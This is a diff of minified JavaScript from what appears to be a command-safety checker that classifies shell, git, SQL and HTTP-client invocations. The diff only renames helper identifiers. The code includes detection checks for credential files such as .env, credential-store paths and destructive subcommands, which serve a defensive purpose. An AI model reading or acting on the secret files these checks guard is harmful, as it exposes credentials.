 some(u=>{let[p,f]=Wf(u),m=Y.makes_new.test(`${u.program} ${p}`),h=c||m&&!i.includes("\uFFFC")&&e.needs?.includes(u),g=u.program===r.maker&&d.exec(p)?.[1]===i;return h&&
-g&&f===o})}function Wf(t){let{program:e,args:s,folder:r,environment:n,client:o,wrappers:i}=t,a=s.map(({text:h})=>h),{operands:l,options:c}=$e(e,s),d=c.filter(({
+g&&f===o})}function Wf(t){let{program:e,args:s,folder:r,environment:n,client:o,wrappers:i}=t,a=s.map(({text:h})=>h),{operands:l,options:c}=_e(e,s),d=c.filter(({
 flag:h})=>h==="--name").map(({value:h})=>h.text),u=e==="git"?a:[...l.map(({text:h})=>h),...d],p=a.filter(h=>!u.includes(h)&&!Y.placeless_flag.test(h)),f=o?.args.
 flatMap(({text:h})=>/\s/.test(h)?[]:[h]),m=[e==="git"?[]:p,r?.text,n,f,i];return[u.join(" "),JSON.stringify(m)]}function f0(t){let{environment:e,folder:s,args:r}=t.
 invocation,[n=""]=t.operands.map(({text:l})=>l);if(n==="push")return m0(t);if(s===void 0||!Vf(s.text,t)||"GIT_DIR"in e||"GIT_WORK_TREE"in e)return!1;let o=t.context.
@@ -3343,9 +3343,9 @@ return i&&!t.context.invocations.some(a)&&!o.some(l=>/worktree|git-?dir/i.test(l
 s.text,t)}function Vf(t,{context:{workspace:e,folder:s=e}}){let r=[e,s].some(n=>Bl(t,n)||Bl(n,t));return Y.temporary_file.test(t)&&!r}function m0(t){let{operands:e,
 invocation:s,context:r}=t,[,n="origin"]=e.map(({text:l})=>l);if(Y.temporary_file.test(n))return!0;let i=r.invocations.filter(zl).map(({args:l})=>ie(l).text).some(
 l=>Y.remote_setting.test(l)),a=s.folder?.text??"";return n==="origin"&&!i&&Vf(a,t)&&Uf(a,t,Y.temporary_file)}var Uf=(t,{context:e},s=/(?:)/)=>e.invocations.some(
-r=>zl(r)&&Bl(t,h0(r,s))),zl=({program:t})=>t==="git",Bl=(t,e)=>e!==void 0&&`${t}/`.startsWith(`${e}/`);function h0({args:t,folder:e},s){let[r,n="",o]=$e("git",t).
+r=>zl(r)&&Bl(t,h0(r,s))),zl=({program:t})=>t==="git",Bl=(t,e)=>e!==void 0&&`${t}/`.startsWith(`${e}/`);function h0({args:t,folder:e},s){let[r,n="",o]=_e("git",t).
 operands.map(({text:i})=>i);if(r==="init")return[n,e?.text].find(i=>i!==void 0&&Y.new_folder.test(i));if(!(r!=="clone"||o===void 0||!s.test(n)))return o.startsWith(
-"/")||e===void 0?o:`${e.text}/${o}`}var Hf="\0",g0=_e(t=>t.replaceAll("\\*",Hf).split("*").map(s=>s.replaceAll(Hf,"*")));function xn(t,e){if(!e.includes("*"))return t===e;let s=g0(e),[r,n]=[s[0],s.
+"/")||e===void 0?o:`${e.text}/${o}`}var Hf="\0",g0=Se(t=>t.replaceAll("\\*",Hf).split("*").map(s=>s.replaceAll(Hf,"*")));function xn(t,e){if(!e.includes("*"))return t===e;let s=g0(e),[r,n]=[s[0],s.
 at(-1)];if(s.length===1)return t===r;if(t.length<r.length+n.length||!t.startsWith(r)||!t.endsWith(n))return!1;let o=t.length-n.length,i=r.length;for(let a of s.
 slice(1,-1)){let l=t.indexOf(a,i);if(l===-1||l+a.length>o)return!1;i=l+a.length}return!0}var pt=(t,e)=>e.some(s=>xn(t,s));var{ownData:$n,interpreters:b0,clients:y0,forms:Ft}=S;function zf(t){let{program:e,operands:s,invocation:r}=t,{client:n}=r;if(e==="sql")return n!==void 0&&(w0(t,
 n)||Bf(n));if(Ft.http_client.test(e)){let o=s.filter(({text:a})=>/[/:]/.test(a)),i=({text:a})=>Ft.loopback.test(a)&&Ft.test_name.test(a);return o.length>0&&o.every(
@@ -3353,7 +3353,7 @@ i)}return Gl(r,$n.endpoints,o=>Ft.loopback.test(o))||Gl(r,$n.addresses,o=>Ft.pas
 let o=[...t.flatMap(({text:i},a)=>{let[,l,c="",d]=/^(--?)?([A-Za-z][\w-]*)(?:=([\s\S]*))?$/.exec(i)??[];return s.includes(c)&&(l!==void 0||d!==void 0)?[d??t[a+1]?.
 text??""]:[]}),...s.flatMap(i=>e[i]?.text??[])];return o.length>0&&o.every(r)}var Bf=t=>Gl(t,$n.environments,e=>pt(e,$n.stages));function w0({operands:[t],context:e},{
 program:s,args:r}){let n=b0.get(s),o=s.startsWith("mongo");if(!n||n.language!=="sql"&&!o)return!1;if(s==="clickhouse"&&r[0]?.text==="local"||s==="bq"&&r.some(({
-text:g})=>g==="--dry_run"))return!0;let{options:i,operands:a}=j(r,n),l=W(i,...$n.databases).map(({text:g})=>g),c=e.invocations.flatMap(g=>g.program==="sql"&&g.args[0]?.
+text:g})=>g==="--dry_run"))return!0;let{options:i,operands:a}=W(r,n),l=M(i,...$n.databases).map(({text:g})=>g),c=e.invocations.flatMap(g=>g.program==="sql"&&g.args[0]?.
 text==="attach"?[g.args[1]?.text??""]:[]),d=Ft.file_client.test(s),u=a[0]?.text??(d?":memory:":[]),p=[l,u,c].flat();if(p.length===0||o&&r.some(({text:g})=>/sibling|\buse\b|connect|mongo\(/i.
 test(g)))return!1;let f=!o&&Ft.beyond_database.test(t?.text??""),m=g=>g.includes(S.uniqueMark)&&!r.some(({text:y})=>Ft.leaves_database.test(y))&&e.invocations.some(
 y=>y.program==="createdb"&&y.args.some(({text:x})=>x===g)),h=g=>d&&Ft.passing_file.test(g)||!f&&(Ft.test_name.test(g)||m(g));return p.every(h)}ar();var{forms:li}=S,Kl=({environment:t})=>t.POSIXLY_CORRECT!==void 0;function Gf(t,e){let s=e.findIndex(({text:n})=>n==="--"),r=e.slice(0,s===-1?void 0:s);return!Kl(
@@ -3366,7 +3366,7 @@ let s=[t,...e.slice(0,3).map(({text:o})=>o)],n=s.map((o,i)=>s.slice(0,i+1).join(
 lient":""))?.flags??[]}function Qf(t,e,s){let{flags:r,operands:n}=e,o=S.help;if(o.leading.has(t.replace(/^g/,"")))return/^--(?:help|version)$/.test(s[0]??"");if(o.
 none.has(t)||s.some(c=>/^--?help=/.test(c)))return!1;let i=o.one_dash.has(t)?/^(?:--?help|-h)$/:/^--help$/;if(r.some(c=>i.test(c)))return s.some((c,d)=>i.test(c)&&
 !Yf(t,s,d));if(s.length===1&&s[0]==="--version")return!0;if(!o.verbs.has(t)&&!S.clients.has(t))return!1;let[a,l]=n.map(({text:c})=>c);return a==="completion"&&/^(bash|zsh|fish|powershell|pwsh)$/.
-test(l??"")?!0:a==="help"||t==="aws"&&n.at(-1)?.text==="help"}var{clients:x0,clientWords:Dr,forms:Xf}=S,$0=6;function Jf(t,{path:e,args:s}){let r=x0.get(t);if(!r||Xf.own_program.test(e)&&!Dr.project.has(t))return!1;let n=$e(
+test(l??"")?!0:a==="help"||t==="aws"&&n.at(-1)?.text==="help"}var{clients:x0,clientWords:Dr,forms:Xf}=S,$0=6;function Jf(t,{path:e,args:s}){let r=x0.get(t);if(!r||Xf.own_program.test(e)&&!Dr.project.has(t))return!1;let n=_e(
 Cr(t)?t:"client",s).operands.slice(0,r.words??$0).map(({text:i})=>i),o=n.join(" ");if(r.spares?.some(i=>o===i||o.startsWith(`${i} `)))return!1;for(let i of n){if(!Xf.
 subcommand_word.test(i))return!1;if(r.verbs?.some(c=>i===c||i.endsWith(`:${c}`)))return!0;let a=_0(i);if(Dr.others.has(i)||a.length>1&&Dr.others.has(`${a[0]}-`)||
 Dr.local.has(i)){if(!r.nouns?.includes(i))return!1}else if(Dr.destroys.has(a[0])||Dr.destroys.has(a.at(-1)))return!0}return!1}function _0(t){return t.replace(/^.*[:.]/,
@@ -3376,14 +3376,14 @@ r):0;if(p===void 0||n&&!A0(t,n)||o&&!Object.entries(o).every(([f,m])=>P0(t,f,m))
 return!1;for(let f of Yl){let m=e[f];if(m&&!Ql(t.getPathClasses(f),m))return!1}return e.redirected!==void 0&&em(t,e)!==e.redirected||e.unknown&&!t.invocation.args.
 some(({text:f})=>f.includes("\uFFFC"))||e.to&&!O0(t,e.to)||e.service_verb&&!Jf(t.program,t.invocation)||e.downloaded&&!t.downloaded||e.from&&!I0(t,e.from)?!1:!e.
 line||q0(t.context.invocations)(e.line)}function em(t,{writes:e}){let s=t.getPathClasses("redirected");return e?Ql(s,e):s.size>0}var Ql=(t,e)=>e.some(s=>t.has(s)),
-tm=_e(t=>t.split(" "));function S0({operands:t},e){for(let s of e){let r=tm(s);if(t.length>=r.length&&r.every((n,o)=>xn(t[o].text,n)))return r.length}}var C0=["\
+tm=Se(t=>t.split(" "));function S0({operands:t},e){for(let s of e){let r=tm(s);if(t.length>=r.length&&r.every((n,o)=>xn(t[o].text,n)))return r.length}}var C0=["\
 subcommand","flags","options","args","names","to"],E0=["options","to"];function sm(t,e,s){let{program:r,operands:n}=t;return!e.program||!pt(r,e.program)||e.redirected===
 !0&&!em(t,e)||!(s==="any"?C0:E0).some(o=>e[o]!==void 0)?!1:(e.subcommand??[""]).some(o=>tm(o).every((i,a)=>{let l=n[a];return i===""||l===void 0||l.text.includes(
 "\uFFFC")||xn(l.text,i)}))}function A0({flags:t,invocation:e},{any:s,all:r,none:n}){return s&&!pe(t,...s)||r&&!r.every(o=>pe(t,o))?!1:!n||Kl(e)||!pe(t,...n)}function T0(t,{
 any:e,none:s,at_least:r,at_most:n}){return r!==void 0&&t.length<r||n!==void 0&&t.length>n||e&&!t.some(({text:o})=>pt(o,e))?!1:!s||!t.some(({text:o})=>pt(o,s))}var P0=({
 options:t},e,s)=>t.some(({flag:r,value:n})=>pe([r],e)&&pt(n.text,s)),R0=({invocation:t},e,s)=>Object.entries(t.environment).some(([r,{text:n}])=>xn(r,e)&&pt(n,s));
 function I0({from:t},e){let{program:s,reads:r,without:n,operands_at_most:o=Number.POSITIVE_INFINITY}=e;return n&&t.some(i=>pt(i.program,n))?!1:t.some(i=>pt(i.program,
-s)&&i.operands.length<=o&&(!r||Ql(i.getPathClasses("reads"),r)))}var q0=_e(t=>{let e=t.map(r=>ue(r).slice(0,2e3)),s=r=>e.some(n=>pt(n,r));return _e(({any:r,none:n})=>(!r||
+s)&&i.operands.length<=o&&(!r||Ql(i.getPathClasses("reads"),r)))}var q0=Se(t=>{let e=t.map(r=>ue(r).slice(0,2e3)),s=r=>e.some(n=>pt(n,r));return Se(({any:r,none:n})=>(!r||
 s(r))&&!(n&&s(n)))},new WeakMap);function O0(t,e){let s=t.options.filter(({flag:r})=>/^--(?:(?:extra-)?index-)?url$|^--registry$/.test(r));return[...t.operands,
 ...s.map(({value:r})=>r)].some(r=>{let n=ii(r);return n===e||e==="remote"&&n==="drop"})}var{forms:_s}=S,N0=new RegExp(`(^|/)(${S.credentialStores})(/|$)`),L0=t=>S.pathWords.source_endings.has(/\.(\w+)$/.exec(t)?.[1]??"");function ci(t){let e=t.slice(
 t.lastIndexOf("/")+1);return e.includes(" | ")?!1:/^\.env([.\-_].*)?$/.test(e)||/^[^.*]+\.env$/.test(e)?!_s.template.test(e):S.pathWords.credentials.has(e)?e!==
@@ -3419,7 +3419,7 @@ t==="unknown"?G0(e,s):r,i=z0.filter(({home:d,form:u})=>u.test(r)||d&&u.test(n)).
 "slash"&&Vt.temp.test(e)||di(s.slice(0,a));return a===-1||/\.(lock|sample)$/.test(s.at(-1))||l()?i:/^(hooks|config|info|modules|config\.worktree)$/.test(s[a+1]??
 "")?[...i,"vcs","vcs-config"]:[...i,"vcs"]}var{programWords:Jl,forms:Je}=S,om=t=>t.every(e=>Je.local_wrapper.test(e)),Y0=t=>t.startsWith("mongo")||S.interpreters.get(t)?.language==="sql",Ss=class t{constructor(e,s){
 this.invocation=e;this.context=s;let{program:r,args:n}=e,o=r.startsWith("python")&&n[0]?.text==="-m"?n[1]?.text:void 0;this.program=o?.replace(/^awscli$/,"aws")??
-X0(e);let i=or(e,s.invocations);this.isSupplied=i!==n,this.words=o===void 0?i:i.slice(2);let{flags:a,options:l,operands:c}=$e(this.program,this.words);this.flags=
+X0(e);let i=or(e,s.invocations);this.isSupplied=i!==n,this.words=o===void 0?i:i.slice(2);let{flags:a,options:l,operands:c}=_e(this.program,this.words);this.flags=
 a,this.options=l,this.operands=c}invocation;context;program;flags;options;operands;classCache={};affected;feeders;isSupplied;words;get recursive(){return this.isSupplied||
 /^(find|rimraf|rsync|tar|zip)$/.test(this.program)||pe(this.flags,"-r","-R","--recursive","-Recurse")||this.operands.some(Q0)}get isContained(){let{wrappers:e}=this.
 invocation,s=e.lastIndexOf($r);return s!==-1&&om(e.slice(s+1))}get isInOwnContainer(){let{wrappers:e,args:s,client:r,environment:n}=this.invocation;if(!e.includes(
@@ -4222,100 +4222,100 @@ if(s==="%%")return"%";if(o===void 0)return ds(s);r==="*"&&e(),n==="*"&&e();let i
 slice(0,1);if(o==="s")return/^\d+$/.test(n??"")?i.slice(0,Number(n)):i;let a=/^['"]/.test(i)?i.codePointAt(1)??0:Number(i||0);return Number.isSafeInteger(a)?o===
 "x"||o==="X"||o==="o"?a.toString(o==="o"?8:16):"diu".includes(o)?String(a):"\uFFFC":"\uFFFC"})}var En=require("node:path");var{forms:Cs}=S,i$={"%%":"%","%n":`
 `,"%t":"	"},nc=(t,e=i$)=>t.replace(Cs.format_field,s=>e[s]??(s.length===1?"\uFFFC\uFFFB":"\uFFFC"));function oc({program:t,args:e}){let{prefix:s,names:r,unread:n,
-...o}=S.formats.get(t),{options:i}=j(e,{...o,permuted:!0}),a=s?e.find(({text:l})=>l.startsWith(s))?.text.slice(s.length):r?W(i,...r).at(-1)?.text:e.map(({text:l})=>l).
+...o}=S.formats.get(t),{options:i}=W(e,{...o,permuted:!0}),a=s?e.find(({text:l})=>l.startsWith(s))?.text.slice(s.length):r?M(i,...r).at(-1)?.text:e.map(({text:l})=>l).
 join(" ");return a===void 0?"\uFFFC":n?new RegExp(n).test(a)?"\uFFFC\uFFFB":"\uFFFC":/^[\w-]+$/.test(a)?"\uFFFC":`${nc(ds(a.replace(/^t?format:/,"")))}
 `}function a$(t){let e=t.filter(({text:s})=>!/^(?:--|-z|-c|--cached|-o|--others|--exclude-standard)$/.test(s));return e.some(({text:s})=>s.startsWith("-"))?"\uFFFC":
 `${e.map(({text:s})=>/[*.]/.test(s)?s:`${s}/*`).join(`
 `)||"*"}
-`}var pm=({args:t,scope:e})=>{let{operands:s}=j(t,{long:["relative-to","relative-base"],permuted:!0}),r=`${e.value("PWD")}/`,n=s.map(({text:o})=>/^[/~]/.test(o)||
-o.startsWith("\uFFFC")?o:r+o);return Oe(n.map(o=>En.posix.normalize(o).replace(/(?<=[^/])\/+$/,"")))},fm={realpath:pm,stat:({args:t})=>{let{options:e,operands:s}=j(
-t,{short:"cft",long:["format","printf"],permuted:!0}),[r]=W(e,"c","f","t","format","printf");if(!r)return"\uFFFC";let n=s.map(({text:i,glob:a})=>a?i.replaceAll(
+`}var pm=({args:t,scope:e})=>{let{operands:s}=W(t,{long:["relative-to","relative-base"],permuted:!0}),r=`${e.value("PWD")}/`,n=s.map(({text:o})=>/^[/~]/.test(o)||
+o.startsWith("\uFFFC")?o:r+o);return Oe(n.map(o=>En.posix.normalize(o).replace(/(?<=[^/])\/+$/,"")))},fm={realpath:pm,stat:({args:t})=>{let{options:e,operands:s}=W(
+t,{short:"cft",long:["format","printf"],permuted:!0}),[r]=M(e,"c","f","t","format","printf");if(!r)return"\uFFFC";let n=s.map(({text:i,glob:a})=>a?i.replaceAll(
 "*","\uFFFC"):i),o=ds(r.text);return Oe(n.map(i=>nc(o,{"%%":"%","%n":i,"%N":i})))},git:t=>{let[e="",s]=t.args.map(({text:r})=>r);return e==="rev-parse"&&s==="--\
 show-toplevel"?`.
 `:e==="rev-parse"&&s==="--sq-quote"?"\uFFFC\uFFFB":e==="ls-files"&&!t.context.isPiped?a$(t.args.slice(1)):Cs.git_filter.test(e)?Pe(t.context.stdin?.remaining||"\
-\uFFFC"):oc(t)},seq:({args:t})=>{let{options:e,operands:s}=j(t,{short:"fs",long:["format","separator"]}),r=W(e,"f","s","format","separator");if(r.length>0)return r.
+\uFFFC"):oc(t)},seq:({args:t})=>{let{options:e,operands:s}=W(t,{short:"fs",long:["format","separator"]}),r=M(e,"f","s","format","separator");if(r.length>0)return r.
 every(({text:c})=>Cs.harmless.test(c))?"\uFFFC":"\uFFFC\uFFFB";let n=s.map(({text:c})=>Number(c)),[o,i,a]=n.length===3?n:n.length===2?[n[0],1,n[1]]:[1,1,n[0]],l=Math.
 floor((a-o)/i)+1;return!(l<=100)||![o,i].every(Number.isSafeInteger)?"\uFFFC":Oe(Array.from({length:Math.max(0,l)},(c,d)=>`${o+d*i}`))},readlink:t=>t.args.some(
-({text:e})=>/^-\w*[fem]|^--canon/.test(e))?pm(t):"\uFFFC",basename:({args:t})=>{let{options:e,operands:s}=j(t,{short:"s",long:["suffix"]}),[r]=W(e,"s","suffix"),
-n=r!==void 0||G(e,"a","multiple"),o=r??(n?void 0:s[1]),i=n?s:s.slice(0,1);if(o&&!Ie(o))return Oe(i.map(({text:l})=>Pe(l)));let a=l=>En.posix.basename(l,o?.text)||
-En.posix.basename(l)||l.slice(0,1);return Oe(i.map(({text:l})=>a(l)))},dirname:({args:t})=>{let e=j(t,{permuted:!0}).operands;return Oe(e.map(s=>(Ie(s)?En.posix.
-dirname:Pe)(s.text)))},jq:({args:t,context:e})=>{let{options:s,operands:r}=j(t,{short:"fL",long:["from-file","indent"],permuted:!0}),n=s.some(({name:p})=>/^(?:(?:json)?args|arg(?:json)?|slurpfile|rawfile)$/.
-test(p)),o=n?r.findIndex(({text:p})=>/[.$"[|]/.test(p)):0,a=((G(s,"f","from-file")?void 0:r[Math.max(0,o)])?.text??"").replace(Cs.jq_choosing,""),l=[...a.matchAll(
+({text:e})=>/^-\w*[fem]|^--canon/.test(e))?pm(t):"\uFFFC",basename:({args:t})=>{let{options:e,operands:s}=W(t,{short:"s",long:["suffix"]}),[r]=M(e,"s","suffix"),
+n=r!==void 0||K(e,"a","multiple"),o=r??(n?void 0:s[1]),i=n?s:s.slice(0,1);if(o&&!Ie(o))return Oe(i.map(({text:l})=>Pe(l)));let a=l=>En.posix.basename(l,o?.text)||
+En.posix.basename(l)||l.slice(0,1);return Oe(i.map(({text:l})=>a(l)))},dirname:({args:t})=>{let e=W(t,{permuted:!0}).operands;return Oe(e.map(s=>(Ie(s)?En.posix.
+dirname:Pe)(s.text)))},jq:({args:t,context:e})=>{let{options:s,operands:r}=W(t,{short:"fL",long:["from-file","indent"],permuted:!0}),n=s.some(({name:p})=>/^(?:(?:json)?args|arg(?:json)?|slurpfile|rawfile)$/.
+test(p)),o=n?r.findIndex(({text:p})=>/[.$"[|]/.test(p)):0,a=((K(s,"f","from-file")?void 0:r[Math.max(0,o)])?.text??"").replace(Cs.jq_choosing,""),l=[...a.matchAll(
 Cs.jq_text)].map(([,p])=>p.replace(Cs.jq_interpolation,"\uFFFC")),c=Cs.jq_making.test(a)&&(l.length>0||/\bimplode\b/.test(a)),d=/\benv\b|\$ENV/.test(a)&&Object.
 values(e.environment).some(Ie),u=l.every(p=>Cs.plain_text.test(p));return c||d||n&&/\$/.test(a)||!u?"\uFFFC\uFFFB":Pe(e.stdin?.remaining||"\uFFFC")}},mm=(t,e,s)=>e.
 map(r=>nc(ds(t),{"%%":"%","%p":r,"%H":s})).join("");function wi(t){let{program:e}=t;if(l$.unique_output.test(ue(t)))return`${S.uniqueMark}00
 `;let s=S.formats.has(e)?oc:void 0,r=u$.get(e)??(S.filters.has(e)?wm:s),n=r?r(t):S.silent.has(e)?"":"\uFFFC";return n.length>cs?"\uFFFC\uFFFB":(t.interpreter.budget.
-spend(n.length>>6),n)}var{forms:l$}=S,c$=16,yi=({args:t})=>t.map(({text:e})=>e),cr=(t,e="",s=Pe)=>r=>{let n=j(r.args,{short:e,permuted:!0}),o=r.readFiles(n.operands);
+spend(n.length>>6),n)}var{forms:l$}=S,c$=16,yi=({args:t})=>t.map(({text:e})=>e),cr=(t,e="",s=Pe)=>r=>{let n=W(r.args,{short:e,permuted:!0}),o=r.readFiles(n.operands);
 return o.includes("\uFFFC")?s(o):t(o,n)??"\uFFFC\uFFFB"},ic=(t,e="")=>cr(t,e,s=>s),ym=(t,e)=>{let s=e.replace(/\s+/g,"");return(t==="hex"?/^[\da-f]*$/i:/^[\w+/=-]*$/).
-test(s)?Buffer.from(s,t).toString("utf8"):"\uFFFC\uFFFB"},hm=cr((t,{options:e})=>G(e,"d","D","decode")?ym("base64",t):`${Buffer.from(t).toString("base64")}
+test(s)?Buffer.from(s,t).toString("utf8"):"\uFFFC\uFFFB"},hm=cr((t,{options:e})=>K(e,"d","D","decode")?ym("base64",t):`${Buffer.from(t).toString("base64")}
 `,"w"),An=t=>t.replace(/\n$/,"").split(`
-`),gm=t=>ic((e,{options:s})=>{let r=s.map(({name:i})=>i).join(""),n=W(s,"n","lines")[0]?.text??(/^\d+$/.test(r)?r:"10"),o=An(e);if(t&&/^\+\d+$/.test(n))return Oe(
-o.slice(Number(n)-1));if(!(!/^\d{1,6}$/.test(n)||G(s,"c","bytes")))return Oe(t?o.slice(-Number(n)):o.slice(0,Number(n)))},"cn");function d$(t,{options:e}){if(e.
-some(({name:r})=>!/^(?:[uro]|unique|reverse|output)$/.test(r)))return;let s=An(t).sort();return G(e,"r","reverse")&&s.reverse(),Oe(G(e,"u","unique")?[...new Set(
-s)]:s)}function wm(t){let s=j(t.args,{permuted:!0}).operands.slice(0,c$).map(({text:n})=>t.findWritten(n)?.text??"");return[t.context.stdin?.remaining??"",...s].
+`),gm=t=>ic((e,{options:s})=>{let r=s.map(({name:i})=>i).join(""),n=M(s,"n","lines")[0]?.text??(/^\d+$/.test(r)?r:"10"),o=An(e);if(t&&/^\+\d+$/.test(n))return Oe(
+o.slice(Number(n)-1));if(!(!/^\d{1,6}$/.test(n)||K(s,"c","bytes")))return Oe(t?o.slice(-Number(n)):o.slice(0,Number(n)))},"cn");function d$(t,{options:e}){if(e.
+some(({name:r})=>!/^(?:[uro]|unique|reverse|output)$/.test(r)))return;let s=An(t).sort();return K(e,"r","reverse")&&s.reverse(),Oe(K(e,"u","unique")?[...new Set(
+s)]:s)}function wm(t){let s=W(t.args,{permuted:!0}).operands.slice(0,c$).map(({text:n})=>t.findWritten(n)?.text??"");return[t.context.stdin?.remaining??"",...s].
 filter(n=>n!=="").some(n=>Pe(n)==="\uFFFC\uFFFB")?"\uFFFC\uFFFB":"\uFFFC"}function ac(t,e,{interpreter:s,context:r,scope:n},o=!1){let i=e.includes("\uFFFC")?de(
-r):[];s.files[o?"append":"write"](t,e,n.folder,i)}function bm(t){let{options:e,operands:s}=j(t.args,{permuted:!0}),r=t.context.stdin?.readRest()??"\uFFFC";for(let{
-text:n}of s)ac(n,r,t,G(e,"a","append"));return r}var u$=hi({echo:t=>{let e=yi(t),s=0;for(;/^-[neE]+$/.test(e[s]??"");)s+=1;let r=e.slice(0,s).join(""),n=e.slice(
+r):[];s.files[o?"append":"write"](t,e,n.folder,i)}function bm(t){let{options:e,operands:s}=W(t.args,{permuted:!0}),r=t.context.stdin?.readRest()??"\uFFFC";for(let{
+text:n}of s)ac(n,r,t,K(e,"a","append"));return r}var u$=hi({echo:t=>{let e=yi(t),s=0;for(;/^-[neE]+$/.test(e[s]??"");)s+=1;let r=e.slice(0,s).join(""),n=e.slice(
 s).join(" ");return(r.includes("e")?ds(n):n)+(r.includes("n")?"":`
-`)},printf:t=>Cn(yi(t)),cat:t=>t.readFiles(j(t.args,{permuted:!0}).operands),base64:hm,openssl:t=>t.args[0]?.text==="base64"?hm(t.with({args:t.args.slice(1)})):
-wm(t),xxd:cr((t,{options:e})=>G(e,"r")&&G(e,"p","ps")?ym("hex",t):void 0),rev:cr(t=>Oe(An(t).map(e=>[...e].reverse().join("")))),tac:cr(t=>Oe(An(t).reverse())),
+`)},printf:t=>Cn(yi(t)),cat:t=>t.readFiles(W(t.args,{permuted:!0}).operands),base64:hm,openssl:t=>t.args[0]?.text==="base64"?hm(t.with({args:t.args.slice(1)})):
+wm(t),xxd:cr((t,{options:e})=>K(e,"r")&&K(e,"p","ps")?ym("hex",t):void 0),rev:cr(t=>Oe(An(t).map(e=>[...e].reverse().join("")))),tac:cr(t=>Oe(An(t).reverse())),
 tr:t=>{let e=t.context.stdin?.readRest()??"\uFFFC";return e.includes("\uFFFC")?Pe(e):p$(e,yi(t))??"\uFFFC\uFFFB"},head:gm(!1),tail:gm(!0),cut:cr((t,{options:e})=>{
-let[s]=W(e,"c","b","f"),r=/^(\d*)(-?)(\d*)$/.exec(s?.text??"");if(!r)return;let n=Math.max(1,Number(r[1]||1)),o=r[2]===""?n:Number(r[3]||cs),i=W(e,"d")[0]?.text??
-"	",a=G(e,"f"),l=c=>(a?c.split(i):[...c]).slice(n-1,o).join(a?i:"");return Oe(An(t).map(l))},"cbfd"),sort:t=>{let e=ic(d$,"oktST")(t),{options:s}=j(t.args,{short:"\
-oktST",long:["output"],permuted:!0}),[r]=W(s,"o","output");return r&&ac(r.text,e,t),r?"":e},uniq:ic((t,{options:e})=>G(e,"c","count","f","s","w")?void 0:t),mktemp:({
-args:t})=>{let{options:e,operands:s}=j(t,{short:"p",long:["suffix"],permuted:!0}),[r]=W(e,"p","tmpdir"),n=s[0]?s[0].text.replace(/X{3,}/,"\uFFFC"):`tmp.${"\uFFFC"}`,
-o=r?.text??(s[0]&&!G(e,"t","tmpdir")?void 0:"/tmp");return`${o===void 0?n:`${o}/${n}`}
-`},strings:cr(t=>t),ls:({args:t})=>{let{options:e,operands:s}=j(t,{permuted:!0});return!G(e,"d","directory")||G(e,"l")||s.length===0?"\uFFFC":Oe(s.map(({text:r})=>r.
+let[s]=M(e,"c","b","f"),r=/^(\d*)(-?)(\d*)$/.exec(s?.text??"");if(!r)return;let n=Math.max(1,Number(r[1]||1)),o=r[2]===""?n:Number(r[3]||cs),i=M(e,"d")[0]?.text??
+"	",a=K(e,"f"),l=c=>(a?c.split(i):[...c]).slice(n-1,o).join(a?i:"");return Oe(An(t).map(l))},"cbfd"),sort:t=>{let e=ic(d$,"oktST")(t),{options:s}=W(t.args,{short:"\
+oktST",long:["output"],permuted:!0}),[r]=M(s,"o","output");return r&&ac(r.text,e,t),r?"":e},uniq:ic((t,{options:e})=>K(e,"c","count","f","s","w")?void 0:t),mktemp:({
+args:t})=>{let{options:e,operands:s}=W(t,{short:"p",long:["suffix"],permuted:!0}),[r]=M(e,"p","tmpdir"),n=s[0]?s[0].text.replace(/X{3,}/,"\uFFFC"):`tmp.${"\uFFFC"}`,
+o=r?.text??(s[0]&&!K(e,"t","tmpdir")?void 0:"/tmp");return`${o===void 0?n:`${o}/${n}`}
+`},strings:cr(t=>t),ls:({args:t})=>{let{options:e,operands:s}=W(t,{permuted:!0});return!K(e,"d","directory")||K(e,"l")||s.length===0?"\uFFFC":Oe(s.map(({text:r})=>r.
 replaceAll("*","\uFFFC")))},yes:t=>`${yi(t).join(" ")||"y"}
 `.repeat(10),pwd:({scope:t})=>`${t.value("PWD")}
-`,"which type":({args:t})=>{let{operands:e}=j(t,{permuted:!0});return e.map(({text:s})=>s.includes("/")?s:`/usr/bin/${s}`).join(`
-`)},tee:bm,sponge:t=>{let e=bm(t);return t.args.length>0?"":e},grep:t=>{let{options:e,operands:s}=j(t.args,S.getopt.grep);if(G(e,"c","count","q","quiet"))return"\
-\uFFFC";let r=G(e,"e","regexp","f","file")?s:s.slice(1),n=G(e,"r","R","recursive");if(G(e,"l","L","files-with-matches","files-without-match")){let i=r.map(({text:a})=>a.
-replaceAll("*","\uFFFC"));return Oe(n?i.map(a=>`${a}/${"\uFFFC"}`):i)||"\uFFFC"}if(n)return"\uFFFC";let o=t.readFiles(r);return G(e,"o","only-matching","n","H",
+`,"which type":({args:t})=>{let{operands:e}=W(t,{permuted:!0});return e.map(({text:s})=>s.includes("/")?s:`/usr/bin/${s}`).join(`
+`)},tee:bm,sponge:t=>{let e=bm(t);return t.args.length>0?"":e},grep:t=>{let{options:e,operands:s}=W(t.args,S.getopt.grep);if(K(e,"c","count","q","quiet"))return"\
+\uFFFC";let r=K(e,"e","regexp","f","file")?s:s.slice(1),n=K(e,"r","R","recursive");if(K(e,"l","L","files-with-matches","files-without-match")){let i=r.map(({text:a})=>a.
+replaceAll("*","\uFFFC"));return Oe(n?i.map(a=>`${a}/${"\uFFFC"}`):i)||"\uFFFC"}if(n)return"\uFFFC";let o=t.readFiles(r);return K(e,"o","only-matching","n","H",
 "b")?Pe(o):o},dd:t=>{let e=l=>t.args.find(({text:c})=>c.startsWith(l))?.text.slice(l.length),[s,r]=[e("if="),e("of=")],o=(s===void 0?t.context.stdin?.readRest():
 t.findWritten(s)?.text)??"\uFFFC",a=t.args.some(l=>/^(?:skip|count|conv|bs|ibs)=/.test(l.text))?Pe(o):o;return r===void 0?a:(ac(r,a,t),"")},...fm});function p$(t,e){
 let s=e.filter(i=>/^-[cCdst]+$/.test(i)).join(""),[r,n]=e.filter(i=>!/^-[cCdst]+$/.test(i)).map(f$);if(r===void 0||/[cCs]/.test(s))return;if(s.includes("d"))return[
 ...t].filter(i=>!r.includes(i)).join("");if(n===void 0||n.length===0)return;let o=new Map(r.map((i,a)=>[i,n[Math.min(a,n.length-1)]]));return[...t].map(i=>o.get(
 i)??i).join("")}function f$(t){let e=ds(t.replace(/\[:(\w+):\]/g,(n,o)=>S.characterClasses[o]??"")),s=[],r=[...e];for(let n=0;n<r.length&&s.length<1024;n+=1){let[
 o,i]=[r[n].codePointAt(0),r[n+2]?.codePointAt(0)];if(r[n+1]==="-"&&i!==void 0&&i>=o&&i-o<256){for(let a=o;a<=i;a+=1)s.push(String.fromCodePoint(a));n+=2}else s.
